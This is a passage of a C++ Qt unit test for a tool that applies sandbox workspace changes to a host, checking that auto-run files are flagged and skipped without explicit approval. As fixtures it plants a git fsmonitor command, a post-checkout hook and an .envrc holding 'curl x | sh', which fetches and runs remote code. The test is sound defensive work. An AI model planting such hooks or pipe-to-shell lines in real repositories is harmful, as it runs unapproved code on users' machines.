             u"--- a/gone.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-bye\n"_s);
    QCOMPARE(set->find(u"blob.bin"_s)->diff.kind(), WorkspaceDiff::Kind::Binary);
    QCOMPARE(set->find(u"big.txt"_s)->diff.kind(), WorkspaceDiff::Kind::TooLarge);
    QCOMPARE(set->find(u"big.txt"_s)->diff.newSize(), qint64(2 << 20));
}

void tst_WorkspaceChangeSet::autorunChangesNeedTheirOwnYes()
{
    // The attack: the sandbox makes git run its code at the user's next `git status` (a
    // fsmonitor in the config) or checkout (a hook). Whatever the sandbox says, the host sees
    // these paths for what they are, and "everything" does not take them.
    Fixture f;
    QVERIFY(f.host.file(u".git/config"_s, "[core]\n\tbare = false\n"));
    QVERIFY(f.host.file(u".git/HEAD"_s, "ref: refs/heads/main\n"));
    QVERIFY(f.host.file(u"src/app.c"_s, "int x;\n"));
    QVERIFY(f.host.file(u".git/hooks/pre-commit"_s, "#!/bin/sh\n", 0644));
    QVERIFY(f.copy());

    QVERIFY(f.sandbox.file(u".git/config"_s,
                           "[core]\n\tbare = false\n\tfsmonitor = \"touch /tmp/pwned\"\n"));
    QVERIFY(f.sandbox.file(u".git/hooks/post-checkout"_s, "#!/bin/sh\ntouch /tmp/pwned\n", 0755));
    QVERIFY(f.sandbox.file(u".git/hooks/pre-commit"_s, "#!/bin/sh\n", 0755)); // made executable
    QVERIFY(f.sandbox.file(u".git/hooks/post-merge.sample"_s, "sample\n"));
    QVERIFY(f.sandbox.file(u".git/objects/ab/cdef"_s, "blob"));
    QVERIFY(f.sandbox.file(u".git/HEAD"_s, "ref: refs/heads/fix\n"));
    QVERIFY(f.sandbox.file(u".vscode/tasks.json"_s, "{}\n"));
    QVERIFY(f.sandbox.file(u".envrc"_s, "curl x | sh\n"));
    QVERIFY(f.sandbox.file(u"src/app.c"_s, "int y;\n"));

    const Result<WorkspaceChangeSet> set = f.changes();
    QVERIFY2(set, why(set));
    QStringList autorun;
    for (const WorkspaceChange &change : set->changes()) {
        if (change.isAutorun())
            autorun.append(change.path);
    }
    QCOMPARE(autorun,
             (QStringList{u".envrc"_s, u".git/config"_s, u".git/hooks/post-checkout"_s,
                          u".git/hooks/pre-commit"_s, u".vscode/tasks.json"_s}));
    QCOMPARE(set->autorunCount(), 5);
    QVERIFY(set->find(u".git/config"_s)->autorunReason.contains(u"core.fsmonitor"_s));
    QVERIFY(set->find(u".git/hooks/post-checkout"_s)->autorunReason.contains(u"hook"_s));
    // Folders are not flagged, only what they hold.
    QVERIFY(set->find(u".vscode"_s) && !set->find(u".vscode"_s)->isAutorun());

    // Everything: the ordinary changes, not the auto-run ones, which are listed as skipped.
    Fixture g;
    QVERIFY(copyTree(f.hostDir.path(), g.hostDir.path()));
    const Result<WorkspaceApplyReport> report =
        set->apply(g.hostDir.path(), WorkspaceSelection::everything(), f.provider());
    QVERIFY(report);
    QVERIFY(report->applied.contains(u"src/app.c"_s));
    QVERIFY(report->applied.contains(u".git/HEAD"_s));
    QVERIFY(report->applied.contains(u".git/objects/ab/cdef"_s));
    QVERIFY(report->applied.contains(u".git/hooks/post-merge.sample"_s));
    QStringList skipped;
    for (const WorkspaceApplyReport::Skipped &item : report->skipped) {
        skipped.append(item.path);
        QVERIFY2(item.reason.contains(u"--apply-autorun"_s), qPrintable(item.reason));
    }
    QCOMPARE(skipped, autorun);
    QFile config(g.host.path(u".git/config"_s));
    QVERIFY(config.open(QIODevice::ReadOnly));
    QVERIFY(!config.readAll().contains("fsmonitor"));
    QVERIFY(!QFile::exists(g.host.path(u".git/hooks/post-checkout"_s)));
    QVERIFY(!QFile::exists(g.host.path(u".envrc"_s)));
    QCOMPARE(QFileInfo(g.host.path(u".git/hooks/pre-commit"_s)).permissions()
                 & QFileDevice::ExeOwner,
             QFileDevice::Permissions());

    // By name: that one only.
    Fixture h;
    QVERIFY(copyTree(f.hostDir.path(), h.hostDir.path()));
    WorkspaceSelection named = WorkspaceSelection::everything();
    named.paths.insert(u".git/config"_s);
    const Result<WorkspaceApplyReport> one = set->apply(h.hostDir.path(), named, f.provider());
    QVERIFY(one);
    QVERIFY(one->applied.contains(u".git/config"_s));
    QVERIFY(!one->applied.contains(u".git/hooks/post-checkout"_s));
    QCOMPARE(one->skipped.size(), 4);

    // --apply-autorun: all of them.
    Fixture k;
    QVERIFY(copyTree(f.hostDir.path(), k.hostDir.path()));
    WorkspaceSelection all = WorkspaceSelection::everything();
    all.autorunAll = true;
    const Result<WorkspaceApplyReport> every = set->apply(k.hostDir.path(), all, f.provider());
    QVERIFY(every);
    QVERIFY(every->skipped.isEmpty());
    QVERIFY(QFile::exists(k.host.path(u".git/hooks/post-checkout"_s)));
}

QTEST_GUILESS_MAIN(tst_WorkspaceChangeSet)

#include "tst_workspacechangeset.moc"
